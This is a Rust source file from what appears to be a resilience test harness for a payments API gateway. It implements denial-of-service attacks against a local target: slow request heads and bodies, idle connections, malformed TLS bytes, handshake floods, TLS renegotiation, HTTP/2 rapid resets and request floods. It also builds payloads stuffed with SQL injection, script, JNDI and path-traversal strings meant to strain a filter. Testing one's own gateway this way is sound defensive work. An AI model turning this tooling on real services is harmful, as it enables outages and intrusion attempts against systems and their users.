//! Clients that do not behave.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::bail;
use bytes::Bytes;
use clap::ValueEnum;
use http::{Method, Request};
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};

use crate::flood::{Flood, Flooded};
use crate::renegotiation;
use crate::wire::{Site, What};

/// What they do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Request heads that arrive a byte a second.
    SlowHeads,
    /// Request bodies that arrive a byte a second.
    SlowBodies,
    /// Connections on which nothing is said.
    Silence,
    /// Bytes that are no TLS.
    Garbage,
    /// Handshakes, one after the other.
    Handshakes,
    /// New handshakes asked for inside of connections with TLS 1.2.
    Renegotiation,
    /// HTTP/2 requests that are broken off as soon as they are sent.
    Resets,
    /// More requests than can be answered, from two hundred addresses, whoever answers or not.
    Overload,
    /// The same of a client that we know, with a token of its own.
    OverloadByClient,
    /// Bodies that are dear to look into.
    DearBodies,
    /// The same of a client that we know.
    DearBodiesByClient,
}

impl Attack {
    /// Whether it shows a certificate that the gateway trusts.
    pub fn is_of_client(self) -> bool {
        matches!(self, Self::OverloadByClient | Self::DearBodiesByClient)
    }

    /// Connections that it has at once, where a siege has so many in all.
    fn connections(self, most: u32) -> u32 {
        match self {
            Self::SlowHeads | Self::SlowBodies | Self::Silence => most,
            Self::Garbage
            | Self::Handshakes
            | Self::Renegotiation
            | Self::Resets
            | Self::DearBodies
            | Self::DearBodiesByClient => 64,
            Self::Overload | Self::OverloadByClient => 400,
        }
    }
}

/// What an attacker has.
pub struct Means {
    /// Connections of attacks that want many.
    pub most: u32,
    /// Requests a second of attacks that overload.
    pub per_second: u32,
    /// What those show.
    pub token: String,
    pub time: Duration,
}

/// Attacks until the time is over, and says how many connections or requests that were.
pub async fn run(site: &Site, attack: Attack, means: Means) -> anyhow::Result<Value> {
    let Means { most, per_second, token, time } = means;
    let site = if attack == Attack::Renegotiation { renegotiation::prepared(site)? } else { site.clone() };
    let until = Instant::now() + time;
    let made = Arc::new(AtomicU64::new(0));
    let (token, flooded) = (Arc::<str>::from(token), Arc::new(Mutex::new(Flooded::default())));
    let connections = attack.connections(most);
    let mut attackers = JoinSet::new();
    // Two hundred addresses, none of them that of clients who behave, or of another attack: who was
    // blocked for that one would be kept out of this one.
    let place = Attack::value_variants().iter().position(|it| *it == attack).unwrap_or(0);
    let network = u8::try_from(place).unwrap_or(0).saturating_add(1);
    for number in 0..connections {
        let last = u8::try_from(number % 200).unwrap_or(0).saturating_add(2);
        let site = site.from(IpAddr::V4(Ipv4Addr::new(127, 0, network, last)));
        let made = Arc::clone(&made);
        if matches!(attack, Attack::Overload | Attack::OverloadByClient) {
            let (token, flooded) = (Arc::clone(&token), Arc::clone(&flooded));
            attackers.spawn(async move {
                let flood = Flood { path: "/v1/consents", token: &token, connections, per_second };
                flood.pour(number, &site, until, &flooded).await;
            });
            continue;
        }
        attackers.spawn(async move {
            while Instant::now() < until {
                // Whatever comes of it: the attacker comes again.
                let _ = timeout_at(until, once(&site, attack, &made)).await;
                sleep(Duration::from_millis(5)).await;
            }
        });
    }
    attackers.join_all().await;
    let flooded = flooded.lock().unwrap_or_else(PoisonError::into_inner);
    Ok(match made.load(Ordering::Relaxed) {
        0 if flooded.offered > 0 => serde_json::to_value(&*flooded)?,
        made => made.into(),
    })
}

async fn once(site: &Site, attack: Attack, made: &AtomicU64) -> anyhow::Result<()> {
    let count = || made.fetch_add(1, Ordering::Relaxed);
    match attack {
        Attack::SlowHeads => {
            let mut stream = site.tls().await?;
            count();
            stream.write_all(b"GET /v1/limits HTTP/1.1\r\nhost: localhost\r\nx-slow: ").await?;
            drip(&mut stream).await
        }
        Attack::SlowBodies => {
            let mut stream = site.tls().await?;
            count();
            let head = b"POST /v1/payments HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
                content-length: 100000\r\n\r\n{\"amount\": \"";
            stream.write_all(head).await?;
            drip(&mut stream).await
        }
        Attack::Silence => {
            let mut stream = site.tcp().await?;
            count();
            let _ = stream.read(&mut [0; 1]).await?;
            Ok(())
        }
        Attack::Garbage => {
            let mut stream = site.tcp().await?;
            count();
            stream.write_all(&[0x16, 0x03, 0x01, 0xff, 0xff, 0x01, 0x00, 0x41].repeat(512)).await?;
            let _ = stream.read(&mut [0; 64]).await?;
            Ok(())
        }
        Attack::Handshakes => {
            let mut stream = site.tls().await?;
            count();
            stream.shutdown().await?;
            Ok(())
        }
        Attack::Renegotiation => renegotiation::ask(site, made).await,
        Attack::Resets => resets(site, made).await,
        Attack::Overload | Attack::OverloadByClient => bail!("it does not wait for answers"),
        Attack::DearBodies | Attack::DearBodiesByClient => {
            let what = dear();
            let mut connection = site.connect().await?;
            loop {
                connection.ask(site.request(&what)?).await?;
                count();
            }
        }
    }
}

/// A byte a second, until the other side has enough.
async fn drip(stream: &mut (impl AsyncReadExt + AsyncWriteExt + Unpin)) -> anyhow::Result<()> {
    loop {
        let mut answer = [0; 256];
        tokio::select! {
            read = stream.read(&mut answer) => if read? == 0 { return Ok(()) },
            () = sleep(Duration::from_secs(1)) => stream.write_all(b"a").await?,
        }
    }
}

async fn resets(site: &Site, made: &AtomicU64) -> anyhow::Result<()> {
    let (mut sender, connection) = h2::client::handshake(site.tls().await?).await?;
    let connection = tokio::spawn(connection);
    while !connection.is_finished() {
        sender = sender.ready().await?;
        let request = Request::get(format!("https://{}/v1/consents", site.host)).body(())?;
        let (_, mut stream) = sender.send_request(request, false)?;
        stream.send_reset(h2::Reason::CANCEL);
        made.fetch_add(1, Ordering::Relaxed);
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// Texts full of what signatures begin with.
fn dear() -> What {
    let text = "' or 1=1 union select <script ${jndi: ../../etc/passwd; cat /etc/ ".repeat(55);
    let items: Vec<_> = (0..6).map(|_| serde_json::json!({ "remittance_information": &text })).collect();
    let body = serde_json::json!({ "payments": items }).to_string();
    What {
        method: Method::POST,
        path: "/v1/payment-batches".to_owned(),
        headers: vec![("content-type".to_owned(), "application/json".to_owned())],
        tokens: Vec::new(),
        body: Bytes::from(body),
        http2: false,
    }
}
